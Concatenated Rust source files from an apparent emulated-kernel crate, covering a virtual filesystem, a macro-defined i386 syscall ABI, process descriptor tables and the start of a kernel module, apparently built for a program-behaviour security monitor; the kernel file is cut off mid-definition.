use std::collections::{BTreeMap, VecDeque};

/// File body.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum FileKind {
    /// Ordinary file contents.
    Regular(Vec<u8>),
    /// Named pipe: bytes written are queued until read.
    Fifo(VecDeque<u8>),
}

/// A filesystem node.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FileNode {
    /// Contents.
    pub kind: FileKind,
    /// Execute permission (set by `chmod`, required by `execve`).
    pub executable: bool,
}

impl FileNode {
    /// A regular file with the given contents.
    pub fn regular(data: impl Into<Vec<u8>>) -> FileNode {
        FileNode { kind: FileKind::Regular(data.into()), executable: false }
    }

    /// An empty FIFO.
    pub fn fifo() -> FileNode {
        FileNode { kind: FileKind::Fifo(VecDeque::new()), executable: false }
    }

    /// Regular-file contents (empty for FIFOs).
    pub fn data(&self) -> &[u8] {
        match &self.kind {
            FileKind::Regular(d) => d,
            FileKind::Fifo(_) => &[],
        }
    }
}

/// The filesystem: a flat path → node map (no directory objects; paths
/// are plain strings, as the monitor only ever compares them textually).
#[derive(Clone, Debug, Default)]
pub struct Vfs {
    nodes: BTreeMap<String, FileNode>,
}

impl Vfs {
    /// Creates an empty filesystem.
    pub fn new() -> Vfs {
        Vfs::default()
    }

    /// Adds or replaces a regular file.
    pub fn install(&mut self, path: impl Into<String>, node: FileNode) {
        self.nodes.insert(path.into(), node);
    }

    /// True when `path` exists.
    pub fn exists(&self, path: &str) -> bool {
        self.nodes.contains_key(path)
    }

    /// Immutable node access.
    pub fn get(&self, path: &str) -> Option<&FileNode> {
        self.nodes.get(path)
    }

    /// Mutable node access.
    pub fn get_mut(&mut self, path: &str) -> Option<&mut FileNode> {
        self.nodes.get_mut(path)
    }

    /// Opens for writing: creates a regular file when missing; truncates
    /// when `truncate` is set (FIFOs are never truncated).
    pub fn open_write(&mut self, path: &str, truncate: bool) {
        match self.nodes.get_mut(path) {
            Some(node) => {
                if truncate {
                    if let FileKind::Regular(d) = &mut node.kind {
                        d.clear();
                    }
                }
            }
            None => {
                self.nodes.insert(path.to_string(), FileNode::regular(Vec::new()));
            }
        }
    }

    /// Creates a FIFO (like `mknod path p`). No-op if it already exists.
    pub fn mkfifo(&mut self, path: &str) {
        self.nodes.entry(path.to_string()).or_insert_with(FileNode::fifo);
    }

    /// Reads up to `len` bytes from `offset` (regular) or the queue head
    /// (FIFO). Returns the bytes read.
    pub fn read(&mut self, path: &str, offset: usize, len: usize) -> Option<Vec<u8>> {
        let node = self.nodes.get_mut(path)?;
        Some(match &mut node.kind {
            FileKind::Regular(d) => {
                let start = offset.min(d.len());
                let end = (offset + len).min(d.len());
                d[start..end].to_vec()
            }
            FileKind::Fifo(q) => {
                let take = len.min(q.len());
                q.drain(..take).collect()
            }
        })
    }

    /// Appends bytes at `offset` (regular; extends the file) or to the
    /// queue (FIFO). Returns bytes written.
    pub fn write(&mut self, path: &str, offset: usize, bytes: &[u8]) -> Option<usize> {
        let node = self.nodes.get_mut(path)?;
        match &mut node.kind {
            FileKind::Regular(d) => {
                if d.len() < offset {
                    d.resize(offset, 0);
                }
                let overlap = (d.len() - offset).min(bytes.len());
                d[offset..offset + overlap].copy_from_slice(&bytes[..overlap]);
                d.extend_from_slice(&bytes[overlap..]);
            }
            FileKind::Fifo(q) => q.extend(bytes.iter().copied()),
        }
        Some(bytes.len())
    }

    /// Sets the execute bit.
    pub fn chmod_exec(&mut self, path: &str, executable: bool) -> bool {
        match self.nodes.get_mut(path) {
            Some(node) => {
                node.executable = executable;
                true
            }
            None => false,
        }
    }

    /// All paths, sorted (diagnostics and tests).
    pub fn paths(&self) -> impl Iterator<Item = &str> {
        self.nodes.keys().map(String::as_str)
    }

    /// Number of nodes.
    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    /// True when the filesystem is empty.
    pub fn is_empty(&self) -> bool {
        self.nodes.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn regular_read_write() {
        let mut vfs = Vfs::new();
        vfs.open_write("/tmp/a", false);
        assert_eq!(vfs.write("/tmp/a", 0, b"hello"), Some(5));
        assert_eq!(vfs.read("/tmp/a", 0, 5).unwrap(), b"hello");
        assert_eq!(vfs.read("/tmp/a", 3, 10).unwrap(), b"lo");
        // Overwrite + extend.
        vfs.write("/tmp/a", 3, b"XYZ!").unwrap();
        assert_eq!(vfs.read("/tmp/a", 0, 10).unwrap(), b"helXYZ!");
    }

    #[test]
    fn truncate_on_open() {
        let mut vfs = Vfs::new();
        vfs.install("/f", FileNode::regular(b"old".to_vec()));
        vfs.open_write("/f", true);
        assert_eq!(vfs.get("/f").unwrap().data(), b"");
    }

    #[test]
    fn fifo_queues_bytes() {
        let mut vfs = Vfs::new();
        vfs.mkfifo("inpipe");
        vfs.write("inpipe", 0, b"abc").unwrap();
        vfs.write("inpipe", 0, b"def").unwrap();
        assert_eq!(vfs.read("inpipe", 0, 4).unwrap(), b"abcd");
        assert_eq!(vfs.read("inpipe", 0, 4).unwrap(), b"ef");
        assert_eq!(vfs.read("inpipe", 0, 4).unwrap(), b"");
    }

    #[test]
    fn chmod_and_exists() {
        let mut vfs = Vfs::new();
        assert!(!vfs.chmod_exec("/x", true));
        vfs.install("/x", FileNode::regular(Vec::new()));
        assert!(vfs.chmod_exec("/x", true));
        assert!(vfs.get("/x").unwrap().executable);
        assert!(vfs.exists("/x"));
        assert!(!vfs.exists("/y"));
    }

    #[test]
    fn sparse_write_zero_fills() {
        let mut vfs = Vfs::new();
        vfs.open_write("/s", false);
        vfs.write("/s", 4, b"x").unwrap();
        assert_eq!(vfs.read("/s", 0, 5).unwrap(), b"\0\0\0\0x");
    }
}
