//! The syscall ABI, defined exactly once.
//!
//! [`define_syscalls!`] takes one table of `{number, name, arg kinds,
//! handler, effect schema}` rows and generates every surface that used
//! to be hand-maintained in five places:
//!
//! * the [`sysno`] constants,
//! * the static [`TABLE`] of [`SyscallDef`]s (names, arg kinds, effect
//!   schema — consumed by harrier's name interner, the dispatch fuzz
//!   suite, and documentation),
//! * [`name_of`] (`nr → "SYS_name"`),
//! * `Kernel::dispatch` — per-arg extraction and validation from the
//!   i386 registers (`ebx`, `ecx`, `edx`), with `CStr` arguments read
//!   and bounds-checked *before* the handler runs, so handler bodies
//!   are pure semantics,
//! * [`asm_consts`] — `SYS_*` (plus `SC_*`/`O_*`/`SIG*`) assembler
//!   constants pre-seeded into every `hth-vm` assembly, and
//! * [`stub_source`] — the generated `libsys.so` of `sys_<name>`
//!   int-0x80 stubs for workloads that prefer `call` over raw traps.
//!
//! Adding a syscall is one table row plus a handler method on `Kernel`.

use crate::kernel::{errno, SyscallEffect};
use crate::process::Process;

/// Upper bound for every path/name string read from process memory
/// (the one constant behind all `CStr` argument validation).
pub const MAX_CSTR_LEN: u32 = 4096;

/// Argument kinds a syscall can declare. Drives both extraction (which
/// register, what conversion/validation) and the generated docs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ArgKind {
    /// Plain integer, passed through as `u32`.
    Int,
    /// File descriptor (`i32`; negative values fail fd lookup cleanly).
    Fd,
    /// Pointer into process memory (`u32`, validated by the handler at
    /// use: an unmapped pointer yields `EFAULT`, never a panic).
    Ptr,
    /// Byte count (`u32`).
    Len,
    /// NUL-terminated string pointer: read and validated *before* the
    /// handler runs (≤ [`MAX_CSTR_LEN`] bytes, else `EFAULT`).
    CStr,
}

/// A validated C-string argument: the string plus the address it was
/// read from (kept for resource-identifier taint).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CStrArg {
    /// The decoded string.
    pub val: String,
    /// Guest address of the first byte.
    pub addr: u32,
}

/// One row of the syscall table.
#[derive(Clone, Copy, Debug)]
pub struct SyscallDef {
    /// Syscall number (i386 flavour).
    pub nr: u32,
    /// Symbolic name in the paper's notation (`SYS_execve`).
    pub name: &'static str,
    /// Declared argument kinds, in `ebx`, `ecx`, `edx` order.
    pub args: &'static [ArgKind],
    /// Effect schema: which [`SyscallEffect`](crate::kernel::SyscallEffect)
    /// variants the handler may report (documentation / DESIGN.md).
    pub effect: &'static str,
}

/// Extraction of one declared argument kind from a raw register value.
pub trait ExtractArg {
    /// The Rust type the handler receives.
    type Out;
    /// Converts/validates `raw`; `Err` carries the (positive) errno.
    ///
    /// # Errors
    ///
    /// `EFAULT` when a `CStr` pointer is unmapped or unterminated
    /// within [`MAX_CSTR_LEN`] bytes.
    fn extract(proc: &Process, raw: u32) -> Result<Self::Out, i32>;
}

/// Marker types implementing [`ExtractArg`], one per [`ArgKind`].
pub mod kinds {
    use super::{errno, CStrArg, ExtractArg, Process, MAX_CSTR_LEN};

    /// See [`super::ArgKind::Int`].
    pub struct Int;
    /// See [`super::ArgKind::Fd`].
    pub struct Fd;
    /// See [`super::ArgKind::Ptr`].
    pub struct Ptr;
    /// See [`super::ArgKind::Len`].
    pub struct Len;
    /// See [`super::ArgKind::CStr`].
    pub struct CStr;

    impl ExtractArg for Int {
        type Out = u32;
        fn extract(_proc: &Process, raw: u32) -> Result<u32, i32> {
            Ok(raw)
        }
    }

    impl ExtractArg for Fd {
        type Out = i32;
        fn extract(_proc: &Process, raw: u32) -> Result<i32, i32> {
            Ok(raw as i32)
        }
    }

    impl ExtractArg for Ptr {
        type Out = u32;
        fn extract(_proc: &Process, raw: u32) -> Result<u32, i32> {
            Ok(raw)
        }
    }

    impl ExtractArg for Len {
        type Out = u32;
        fn extract(_proc: &Process, raw: u32) -> Result<u32, i32> {
            Ok(raw)
        }
    }

    impl ExtractArg for CStr {
        type Out = CStrArg;
        fn extract(proc: &Process, raw: u32) -> Result<CStrArg, i32> {
            match proc.core.mem.read_cstr(raw, MAX_CSTR_LEN) {
                Ok(val) => Ok(CStrArg { val, addr: raw }),
                Err(_) => Err(errno::EFAULT),
            }
        }
    }
}

/// Handler return adapter: most handlers return `(ret, effect)` and get
/// the table's name; `socketcall` overrides the name per sub-call.
pub trait IntoSysRet {
    /// Normalises to `(name, ret, effect)`.
    fn into_sys_ret(self, name: &'static str) -> (&'static str, i32, SyscallEffect);
}

impl IntoSysRet for (i32, SyscallEffect) {
    fn into_sys_ret(self, name: &'static str) -> (&'static str, i32, SyscallEffect) {
        (name, self.0, self.1)
    }
}

impl IntoSysRet for (&'static str, i32, SyscallEffect) {
    fn into_sys_ret(self, _name: &'static str) -> (&'static str, i32, SyscallEffect) {
        self
    }
}

/// Defines the whole syscall ABI from one table. See the module docs
/// for everything one row expands into.
macro_rules! define_syscalls {
    (
        $(
            $(#[doc = $doc:expr])*
            $CONST:ident = $nr:literal => $name:ident ( $($arg:ident : $kind:ident),* $(,)? )
                -> $handler:ident => $effect:literal ;
        )*
    ) => {
        /// Syscall numbers (i386 Linux flavour; `RESOLVE` is the custom
        /// name-resolution backend behind the toy libc's
        /// `gethostbyname`). Generated by `define_syscalls!`.
        pub mod sysno {
            $(
                $(#[doc = $doc])*
                pub const $CONST: u32 = $nr;
            )*
        }

        /// The full syscall table, in declaration order.
        pub const TABLE: &[SyscallDef] = &[
            $(
                SyscallDef {
                    nr: $nr,
                    name: concat!("SYS_", stringify!($name)),
                    args: &[$(ArgKind::$kind),*],
                    effect: $effect,
                },
            )*
        ];

        /// Symbolic name for a syscall number (`"SYS_unknown"` for
        /// numbers outside the table).
        pub fn name_of(nr: u32) -> &'static str {
            match nr {
                $( $nr => concat!("SYS_", stringify!($name)), )*
                _ => "SYS_unknown",
            }
        }

        impl crate::kernel::Kernel {
            /// Decodes and dispatches syscall `nr` for `proc`: reads the
            /// declared arguments from `ebx`/`ecx`/`edx`, validates them
            /// per [`ArgKind`], and invokes the handler. Generated by
            /// `define_syscalls!`.
            pub(crate) fn dispatch(
                &mut self,
                proc: &mut Process,
                nr: u32,
            ) -> (&'static str, i32, SyscallEffect) {
                match nr {
                    $(
                        $nr => {
                            const NAME: &str = concat!("SYS_", stringify!($name));
                            let _regs = [
                                proc.core.cpu.get(hth_vm::Reg::Ebx),
                                proc.core.cpu.get(hth_vm::Reg::Ecx),
                                proc.core.cpu.get(hth_vm::Reg::Edx),
                            ];
                            let mut _ri = 0usize;
                            $(
                                let $arg = match <kinds::$kind as ExtractArg>::extract(
                                    proc, _regs[_ri],
                                ) {
                                    Ok(v) => v,
                                    Err(e) => return (NAME, -e, SyscallEffect::None),
                                };
                                _ri += 1;
                            )*
                            IntoSysRet::into_sys_ret(
                                self.$handler(proc $(, $arg)*),
                                NAME,
                            )
                        }
                    )*
                    _ => ("SYS_unknown", -errno::ENOSYS, SyscallEffect::None),
                }
            }
        }

        /// `(name, value)` pairs seeded as assembler constants into
        /// every workload assembly (`SYS_*` from the table, plus the
        /// `SC_*` socketcall numbers, `O_*` open flags and signal
        /// numbers from [`EXTRA_ASM_CONSTS`]).
        pub fn asm_consts() -> Vec<(&'static str, u32)> {
            let mut consts: Vec<(&'static str, u32)> = vec![
                $( (concat!("SYS_", stringify!($name)), $nr), )*
            ];
            consts.extend_from_slice(EXTRA_ASM_CONSTS);
            consts
        }

        /// Source of the generated `libsys.so`: one `sys_<name>` stub
        /// per table row that loads the number and traps, mirroring an
        /// int-0x80 libc. Arguments are the caller's `ebx`/`ecx`/`edx`.
        pub fn stub_source() -> String {
            let mut out = String::from(
                "; libsys.so -- generated by emukernel::abi::stub_source()\n",
            );
            $(
                out.push_str(concat!(".global sys_", stringify!($name), "\n"));
            )*
            $(
                out.push_str(concat!(
                    "sys_", stringify!($name), ":\n",
                    "    mov eax, ", stringify!($nr), "\n",
                    "    int 0x80\n",
                    "    ret\n",
                ));
            )*
            out
        }
    };
}

define_syscalls! {
    /// Terminate the calling process.
    EXIT = 1 => exit(code: Int) -> sys_exit => "Exit";
    /// Create a child process (session fixes up both `eax` values).
    FORK = 2 => fork() -> sys_fork => "ForkRequested";
    /// Read from a descriptor into memory.
    READ = 3 => read(fd: Fd, buf: Ptr, len: Len) -> sys_read => "Read";
    /// Write memory to a descriptor.
    WRITE = 4 => write(fd: Fd, buf: Ptr, len: Len) -> sys_write => "Write";
    /// Open (or create, per flags) a VFS path; `/proc` self-views are
    /// synthesized read-only.
    OPEN = 5 => open(path: CStr, flags: Int) -> sys_open => "Open";
    /// Close a descriptor.
    CLOSE = 6 => close(fd: Fd) -> sys_close => "Close";
    /// Replace the process image (the session performs the swap after
    /// Secpert has seen the event).
    EXECVE = 11 => execve(path: CStr) -> sys_execve => "ExecRequested";
    /// Current virtual time.
    TIME = 13 => time() -> sys_time => "None";
    /// Create a FIFO node.
    MKNOD = 14 => mknod(path: CStr, mode: Int) -> sys_mknod => "Mknod";
    /// Toggle a path's executable bit.
    CHMOD = 15 => chmod(path: CStr, mode: Int) -> sys_chmod => "Chmod";
    /// Caller's pid.
    GETPID = 20 => getpid() -> sys_getpid => "None";
    /// Send a signal to a process (delivered by the session).
    KILL = 37 => kill(pid: Int, sig: Int) -> sys_kill => "SignalRequested";
    /// Duplicate a descriptor into the lowest free slot.
    DUP = 41 => dup(fd: Fd) -> sys_dup => "Dup";
    /// Create an anonymous pipe; writes `[read_fd, write_fd]` at `fds`.
    PIPE = 42 => pipe(fds: Ptr) -> sys_pipe => "PipeCreated";
    /// Grow the heap by `incr` bytes (simplified brk).
    BRK = 45 => brk(incr: Int) -> sys_brk => "Brk";
    /// Duplicate `old` onto descriptor `new`, closing `new` first.
    DUP2 = 63 => dup2(old: Fd, new: Fd) -> sys_dup2 => "Dup";
    /// Register a signal handler address for `sig`.
    SIGACTION = 67 => sigaction(sig: Int, handler: Ptr) -> sys_sigaction => "None";
    /// Readiness over an fd bitmask at `readfds` (u32 in/out); a
    /// fruitless wait advances virtual time by `timeout` ticks.
    SELECT = 82 => select(nfds: Int, readfds: Ptr, timeout: Int) -> sys_select => "None";
    /// Map `len` bytes of an open regular file at `offset` into memory;
    /// returns the mapping address (mapped pages carry the file's tag).
    MMAP = 90 => mmap(fd: Fd, len: Len, offset: Int) -> sys_mmap => "Mmap";
    /// Unmap a mapped range (clears its taint).
    MUNMAP = 91 => munmap(addr: Ptr, len: Len) -> sys_munmap => "Munmap";
    /// Multiplexed socket API (`SC_*` sub-call in `ebx`, args at `ecx`).
    SOCKETCALL = 102 => socketcall(call: Int, args: Ptr) -> sys_socketcall => "Socket*";
    /// Alias of `fork` with clone semantics folded in.
    CLONE = 120 => clone() -> sys_fork => "ForkRequested";
    /// Sleep: advances virtual time by `ticks`.
    NANOSLEEP = 162 => nanosleep(ticks: Int) -> sys_nanosleep => "Sleep";
    /// Custom name-resolution backend (`gethostbyname`).
    RESOLVE = 200 => resolve(name: CStr) -> sys_resolve => "Resolve";
}

/// `socketcall` sub-call numbers.
pub mod sockcall {
    #![allow(missing_docs)]
    pub const SOCKET: u32 = 1;
    pub const BIND: u32 = 2;
    pub const CONNECT: u32 = 3;
    pub const LISTEN: u32 = 4;
    pub const ACCEPT: u32 = 5;
    pub const SEND: u32 = 9;
    pub const RECV: u32 = 10;
}

/// Event names the `socketcall` dispatcher can report in place of its
/// own (consumed by harrier's name interner alongside [`TABLE`]).
pub const SOCKETCALL_NAMES: &[&str] =
    &["SYS_socket", "SYS_bind", "SYS_connect", "SYS_listen", "SYS_accept", "SYS_send", "SYS_recv"];

/// Non-syscall assembler constants seeded alongside the `SYS_*` set.
pub const EXTRA_ASM_CONSTS: &[(&str, u32)] = &[
    ("SC_SOCKET", sockcall::SOCKET),
    ("SC_BIND", sockcall::BIND),
    ("SC_CONNECT", sockcall::CONNECT),
    ("SC_LISTEN", sockcall::LISTEN),
    ("SC_ACCEPT", sockcall::ACCEPT),
    ("SC_SEND", sockcall::SEND),
    ("SC_RECV", sockcall::RECV),
    ("O_RDONLY", crate::kernel::oflags::RDONLY),
    ("O_WRONLY", crate::kernel::oflags::WRONLY),
    ("O_RDWR", crate::kernel::oflags::RDWR),
    ("O_CREAT", crate::kernel::oflags::CREAT),
    ("O_TRUNC", crate::kernel::oflags::TRUNC),
    ("O_APPEND", crate::kernel::oflags::APPEND),
    ("SIGKILL", 9),
    ("SIGTERM", 15),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_is_sorted_and_unique() {
        assert!(TABLE.windows(2).all(|w| w[0].nr < w[1].nr), "table in nr order");
        let mut names: Vec<&str> = TABLE.iter().map(|d| d.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), TABLE.len(), "names unique");
    }

    #[test]
    fn name_of_round_trips() {
        for def in TABLE {
            assert_eq!(name_of(def.nr), def.name);
        }
        assert_eq!(name_of(9999), "SYS_unknown");
    }

    #[test]
    fn legacy_numbers_unchanged() {
        // The pre-refactor ABI (wire fixtures depend on these).
        for (nr, name) in [
            (1, "SYS_exit"),
            (2, "SYS_fork"),
            (3, "SYS_read"),
            (4, "SYS_write"),
            (5, "SYS_open"),
            (6, "SYS_close"),
            (11, "SYS_execve"),
            (13, "SYS_time"),
            (14, "SYS_mknod"),
            (15, "SYS_chmod"),
            (20, "SYS_getpid"),
            (41, "SYS_dup"),
            (45, "SYS_brk"),
            (102, "SYS_socketcall"),
            (120, "SYS_clone"),
            (162, "SYS_nanosleep"),
            (200, "SYS_resolve"),
        ] {
            assert_eq!(name_of(nr), name);
        }
    }

    #[test]
    fn asm_consts_cover_table_and_extras() {
        let consts = asm_consts();
        for def in TABLE {
            assert!(consts.iter().any(|&(n, v)| n == def.name && v == def.nr));
        }
        assert!(consts.iter().any(|&(n, v)| n == "SC_CONNECT" && v == 3));
        assert!(consts.iter().any(|&(n, v)| n == "O_CREAT" && v == 0x40));
    }

    #[test]
    fn stub_source_has_one_stub_per_row() {
        let src = stub_source();
        for def in TABLE {
            let label = format!("sys_{}:", &def.name[4..]);
            assert!(src.contains(&label), "missing stub {label}");
            assert!(src.contains(&format!(".global sys_{}", &def.name[4..])));
        }
    }
}
