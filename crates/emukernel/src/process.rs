//! Processes and per-process file-descriptor tables.

use hth_vm::Core;

use crate::net::SocketId;

/// What a file descriptor refers to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum FdKind {
    /// Console input (`USER_INPUT` data source).
    Stdin,
    /// Console output.
    Stdout,
    /// Console error output.
    Stderr,
    /// An open VFS file (regular or FIFO).
    File {
        /// Path it was opened with.
        path: String,
        /// Read/write offset (ignored for FIFOs).
        offset: usize,
        /// True when the node is a FIFO.
        fifo: bool,
    },
    /// A network socket.
    Socket(SocketId),
    /// One end of an anonymous pipe (`pipe(2)`).
    Pipe {
        /// Kernel pipe id, shared by both ends (and across `fork`).
        id: u64,
        /// True for the write end.
        write: bool,
    },
    /// A synthesized read-only `/proc` view, snapshotted at `open`.
    Proc {
        /// Path it was opened with.
        path: String,
        /// Snapshot content.
        data: Vec<u8>,
        /// Read cursor.
        offset: usize,
    },
}

/// A per-process descriptor table; fds 0/1/2 are pre-wired to the console.
#[derive(Clone, Debug)]
pub struct FdTable {
    entries: Vec<Option<FdKind>>,
}

impl Default for FdTable {
    fn default() -> FdTable {
        FdTable::new()
    }
}

impl FdTable {
    /// A fresh table with stdin/stdout/stderr.
    pub fn new() -> FdTable {
        FdTable { entries: vec![Some(FdKind::Stdin), Some(FdKind::Stdout), Some(FdKind::Stderr)] }
    }

    /// Allocates the lowest free descriptor.
    pub fn alloc(&mut self, kind: FdKind) -> i32 {
        for (i, slot) in self.entries.iter_mut().enumerate() {
            if slot.is_none() {
                *slot = Some(kind);
                return i as i32;
            }
        }
        self.entries.push(Some(kind));
        (self.entries.len() - 1) as i32
    }

    /// Looks up a descriptor.
    pub fn get(&self, fd: i32) -> Option<&FdKind> {
        if fd < 0 {
            return None;
        }
        self.entries.get(fd as usize).and_then(Option::as_ref)
    }

    /// Mutable lookup (offset updates).
    pub fn get_mut(&mut self, fd: i32) -> Option<&mut FdKind> {
        if fd < 0 {
            return None;
        }
        self.entries.get_mut(fd as usize).and_then(Option::as_mut)
    }

    /// `dup`: duplicates `fd` into the lowest free slot.
    pub fn dup(&mut self, fd: i32) -> Option<i32> {
        let kind = self.get(fd)?.clone();
        Some(self.alloc(kind))
    }

    /// `dup2`: installs `kind` at exactly `fd` (growing the table if
    /// needed), returning the previous occupant so the kernel can close
    /// it. The caller bounds `fd`.
    pub fn replace(&mut self, fd: i32, kind: FdKind) -> Option<FdKind> {
        let idx = fd as usize;
        if self.entries.len() <= idx {
            self.entries.resize(idx + 1, None);
        }
        self.entries[idx].replace(kind)
    }

    /// Closes a descriptor, returning what it referred to.
    pub fn close(&mut self, fd: i32) -> Option<FdKind> {
        if fd < 0 {
            return None;
        }
        self.entries.get_mut(fd as usize).and_then(Option::take)
    }

    /// Number of live descriptors.
    pub fn live(&self) -> usize {
        self.entries.iter().filter(|e| e.is_some()).count()
    }
}

/// Process run state.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ProcState {
    /// Schedulable.
    Running,
    /// Exited with a status code.
    Exited(i32),
}

/// A process: an execution core plus OS-visible state.
#[derive(Debug)]
pub struct Process {
    /// Process id.
    pub pid: u32,
    /// Parent pid (0 for the initial process).
    pub parent: u32,
    /// CPU, memory and loaded images.
    pub core: Core,
    /// Descriptor table.
    pub fds: FdTable,
    /// Run state.
    pub state: ProcState,
    /// Path of the executing binary (the `BINARY` tag of its image).
    pub image_name: String,
    /// Command line, argv\[0\] first.
    pub cmdline: Vec<String>,
    /// Address range `[lo, hi)` of the initial stack content (argv,
    /// environment, strings) — tagged `USER_INPUT` by the monitor.
    pub initial_stack: (u32, u32),
    /// Kernel tick at which the process started.
    pub start_tick: u64,
    /// Total heap bytes allocated via `brk` (resource-abuse tracking).
    pub heap_bytes: u64,
    /// Next free address in the `mmap` region (bump allocator).
    pub mmap_cursor: u32,
    /// Registered signal handlers: signal number → handler address.
    pub sig_handlers: std::collections::HashMap<u32, u32>,
    /// Signals absorbed by a registered handler, in delivery order.
    pub delivered_signals: Vec<u32>,
}

impl Process {
    /// True when the process can be scheduled.
    pub fn runnable(&self) -> bool {
        self.state == ProcState::Running
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn std_fds_prewired() {
        let t = FdTable::new();
        assert_eq!(t.get(0), Some(&FdKind::Stdin));
        assert_eq!(t.get(1), Some(&FdKind::Stdout));
        assert_eq!(t.get(2), Some(&FdKind::Stderr));
        assert_eq!(t.get(3), None);
        assert_eq!(t.get(-1), None);
    }

    #[test]
    fn alloc_reuses_lowest_free() {
        let mut t = FdTable::new();
        let a = t.alloc(FdKind::Socket(SocketId(0)));
        assert_eq!(a, 3);
        t.close(1).unwrap();
        let b = t.alloc(FdKind::Socket(SocketId(1)));
        assert_eq!(b, 1, "reuses the freed stdout slot");
    }

    #[test]
    fn dup_clones_kind() {
        let mut t = FdTable::new();
        let f = t.alloc(FdKind::File { path: "/a".into(), offset: 0, fifo: false });
        let d = t.dup(f).unwrap();
        assert_eq!(t.get(f), t.get(d));
        assert!(t.dup(99).is_none());
    }

    #[test]
    fn replace_grows_and_returns_prior() {
        let mut t = FdTable::new();
        let prior = t.replace(1, FdKind::Socket(SocketId(7)));
        assert_eq!(prior, Some(FdKind::Stdout));
        assert_eq!(t.get(1), Some(&FdKind::Socket(SocketId(7))));
        assert_eq!(t.replace(10, FdKind::Stdin), None);
        assert_eq!(t.get(10), Some(&FdKind::Stdin));
        assert_eq!(t.get(9), None);
    }

    #[test]
    fn live_count() {
        let mut t = FdTable::new();
        assert_eq!(t.live(), 3);
        t.close(0);
        assert_eq!(t.live(), 2);
    }
}
