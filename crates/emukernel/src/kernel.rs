//! The kernel: syscall handlers, process construction, virtual time.
//!
//! Syscalls follow the i386 Linux convention the paper's Harrier hooks:
//! `int 0x80` with the number in `eax` and arguments in `ebx`, `ecx`,
//! `edx`. The ABI itself — numbers, names, argument kinds, dispatch —
//! is defined once in [`crate::abi`] by `define_syscalls!`; this module
//! provides the handler *semantics*. Every serviced call returns a
//! [`SyscallRecord`] describing the *observable effect* — which
//! resource was touched, which memory ranges were read or written,
//! where name/address arguments lived — which is exactly the
//! information Harrier needs to tag data and emit Secpert events
//! without re-parsing arguments itself.

use std::collections::{HashMap, VecDeque};

use hth_vm::{asm, Core, Reg, VmError};

use crate::abi::{self, sockcall, CStrArg};
use crate::net::{Endpoint, NetError, Network, SocketState};
use crate::process::{FdKind, FdTable, ProcState, Process};
use crate::vfs::{FileKind, Vfs};

/// `open` flag bits (subset).
pub mod oflags {
    #![allow(missing_docs)]
    pub const RDONLY: u32 = 0;
    pub const WRONLY: u32 = 0x1;
    pub const RDWR: u32 = 0x2;
    pub const CREAT: u32 = 0x40;
    pub const TRUNC: u32 = 0x200;
    pub const APPEND: u32 = 0x400;
}

/// Errno values (returned negated).
pub mod errno {
    #![allow(missing_docs)]
    pub const ENOENT: i32 = 2;
    pub const ESRCH: i32 = 3;
    pub const ENOEXEC: i32 = 8;
    pub const EBADF: i32 = 9;
    pub const EAGAIN: i32 = 11;
    pub const ENOMEM: i32 = 12;
    pub const EFAULT: i32 = 14;
    pub const EINVAL: i32 = 22;
    pub const ENOSYS: i32 = 38;
    pub const ECONNREFUSED: i32 = 111;
}

/// A kernel-level resource, as seen at a syscall boundary.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Resource {
    /// A VFS file.
    File {
        /// Path.
        path: String,
        /// True for FIFOs.
        fifo: bool,
    },
    /// Console input.
    Stdin,
    /// Console output.
    Stdout,
    /// Console error.
    Stderr,
    /// A socket with whatever endpoints are known.
    Socket {
        /// Local endpoint if bound/connected.
        local: Option<Endpoint>,
        /// Remote endpoint if connected.
        remote: Option<Endpoint>,
        /// The socket (or its listener) accepts remote connections.
        listening: bool,
        /// This connection was produced by `accept`.
        accepted: bool,
    },
    /// An anonymous pipe (taint is carried end to end by the monitor).
    Pipe {
        /// Kernel pipe id (shared by both ends, inherited across fork).
        id: u64,
    },
    /// A synthesized read-only `/proc` view (self-inspection surface).
    Proc {
        /// Path it was opened with (e.g. `/proc/self/status`).
        path: String,
    },
}

/// Observable effect of a serviced syscall (consumed by Harrier).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SyscallEffect {
    /// Nothing the monitor cares about.
    None,
    /// Process exited.
    Exit {
        /// Exit status.
        code: i32,
    },
    /// `fork`/`clone`: the session must create the child via
    /// [`Kernel::fork`] and fix up both `eax` values.
    ForkRequested,
    /// `execve`: the session decides whether to run the new image.
    ExecRequested {
        /// Requested path.
        path: String,
        /// Address of the path string (for resource-id taint).
        path_addr: u32,
        /// True when the kernel knows a binary by this name.
        found: bool,
    },
    /// A resource was opened.
    Open {
        /// New descriptor.
        fd: i32,
        /// What was opened.
        resource: Resource,
        /// Address of the path argument string.
        path_addr: u32,
    },
    /// A descriptor was closed.
    Close {
        /// What it referred to.
        resource: Resource,
    },
    /// Bytes were read into process memory at `[buf, buf+len)`.
    Read {
        /// Source resource.
        resource: Resource,
        /// Destination buffer address.
        buf: u32,
        /// Bytes actually read.
        len: u32,
    },
    /// Bytes were written from process memory at `[buf, buf+len)`.
    Write {
        /// Target resource.
        resource: Resource,
        /// Source buffer address.
        buf: u32,
        /// Bytes written.
        len: u32,
    },
    /// `dup`/`dup2`.
    Dup {
        /// Original descriptor.
        old: i32,
        /// New descriptor.
        new: i32,
        /// Shared resource.
        resource: Resource,
    },
    /// `socket()` created a descriptor.
    SocketCreated {
        /// New descriptor.
        fd: i32,
    },
    /// `bind`.
    Bind {
        /// Socket resource after binding.
        resource: Resource,
        /// Address of the sockaddr argument.
        addr_ptr: u32,
        /// Bound endpoint.
        endpoint: Endpoint,
    },
    /// `listen` — the program is now a server (paper: High-severity
    /// signal when combined with hardcoded addresses).
    Listen {
        /// Listening socket resource.
        resource: Resource,
    },
    /// `connect`.
    Connect {
        /// Connected socket resource.
        resource: Resource,
        /// Address of the sockaddr argument (for resource-id taint).
        addr_ptr: u32,
        /// Remote endpoint.
